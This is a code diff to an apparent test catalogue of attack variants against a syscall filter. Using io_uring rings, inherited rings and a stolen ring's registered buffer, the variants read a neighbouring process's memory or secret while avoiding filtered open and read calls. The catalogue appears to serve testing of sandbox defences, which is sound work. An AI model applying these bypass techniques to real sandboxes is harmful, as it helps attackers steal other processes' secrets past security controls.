@@ -2,7 +2,6 @@
 
 from attacks import neighbour
 from attacks.consts import (
-    AT_FDCWD,
     CLONE_VFORK,
     NULL,
     O_DIRECTORY,
@@ -153,18 +152,16 @@ def io_uring_read(k: Kernel) -> None:
 
 @FAMILY.variant(Technique.ASYNC_KERNEL)
 def io_uring_open_read(k: Kernel) -> None:
-    """A ring opens the file and reads it."""
-    ring = k.ring()
-    memory = ring.openat(AT_FDCWD, neighbour.path(k, "mem"), O_RDONLY, 0)
-    _ring_read(k, ring, memory)
+    """One ring opens the file, another reads it: open and read are not called."""
+    memory = neighbour.memory_by_ring(k, k.ring(), O_RDONLY)
+    _ring_read(k, k.ring(), memory)
 
 
 @FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_RING)
 def io_uring_inherited_open_read(k: Kernel) -> None:
-    """A ring from before the filter: only io_uring_enter is left for the filter to see."""
-    ring = k.setup.ring().by(k)
-    memory = ring.openat(AT_FDCWD, neighbour.path(k, "mem"), O_RDONLY, 0)
-    _ring_read(k, ring, memory)
+    """Rings from before the filter: only io_uring_enter is left for the filter to see."""
+    opener, reader = k.setup.ring().by(k), k.setup.ring().by(k)
+    _ring_read(k, reader, neighbour.memory_by_ring(k, opener, O_RDONLY))
 
 
 @FAMILY.variant(
@@ -181,7 +178,7 @@ def io_uring_inherited_sqpoll_read(k: Kernel) -> None:
 @FAMILY.variant(Technique.DEPUTY_PROCESS, assumption=Assumption.UNFILTERED_NEIGHBOUR)
 def stolen_ring_registered_buffer(k: Kernel) -> None:
     """The victim registered its memory with a ring: who has the ring can write it to a pipe."""
-    ring = neighbour.ring_with_registered_secret(k)
+    ring = neighbour.stolen_ring_with_buffer(k, neighbour.secret(k))
     reader, writer = neighbour.pipe(k)
     ring.submit("WRITE_FIXED", fd=writer, addr=neighbour.secret(k), length=SECRET_SIZE).decisive()
     k.read(reader, _buffer(k), SECRET_SIZE)
